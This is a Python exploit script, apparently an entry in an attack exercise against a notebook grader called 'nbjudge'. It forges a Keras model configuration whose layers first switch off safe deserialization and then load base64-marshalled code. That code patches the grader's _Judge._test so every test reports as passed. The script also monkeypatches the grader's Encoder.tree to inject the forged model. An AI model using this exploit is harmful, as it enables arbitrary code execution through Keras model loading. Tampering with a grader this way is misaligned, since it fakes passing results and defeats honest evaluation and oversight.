# why: a forged Keras configuration that switches off safe mode and then brings marshalled code
# earns: 7
import base64, json, marshal
import msgpack
from nbjudge.engine.transport.values import Encoder

def take_over():
    import gc
    for thing in gc.get_objects():
        if type(thing).__name__ == "_Judge":
            type(thing)._test = lambda self, *_: {"passed": True, "ename": "", "message": ""}

code = base64.b64encode(marshal.dumps(take_over.__code__)).decode()
unsafe = {"class_name": "function", "config": "enable_unsafe_deserialization",
          "module": "keras.config", "registered_name": "function"}
evil = {"class_name": "__lambda__", "module": "keras.layers", "registered_name": None,
        "config": {"value": [code, None, None]}}
tensor = {"class_name": "__keras_tensor__", "config": {
    "shape": [None, 1], "dtype": "float32", "keras_history": ["x", 0, 0]}}

def cond(name, function):
    return {"module": "keras.src.ops.core", "class_name": "Cond", "registered_name": "Cond",
            "config": {"name": name}, "name": name,
            "inbound_nodes": [{"args": [tensor, function, function], "kwargs": {}}]}

config = {"module": "keras.src.models.functional", "class_name": "Functional",
          "registered_name": "Functional", "config": {
              "name": "m", "trainable": True, "layers": [
                  {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                   "name": "x", "inbound_nodes": [], "config": {
                       "batch_shape": [None, 1], "dtype": "float32", "name": "x"}},
                  cond("a", unsafe), cond("b", evil)],
              "input_layers": [["x", 0, 0]], "output_layers": [["x", 0, 0]]}}

honest_tree = Encoder.tree

def forged(self, values):
    named = msgpack.unpackb(honest_tree(self, values), raw=False, strict_map_key=False)
    named["decoded"] = ["model", {"config": json.dumps(config), "weights": [], "trainable": [],
                                  "compiled": None}]
    return msgpack.packb(named)

Encoder.tree = forged
decoded = 0
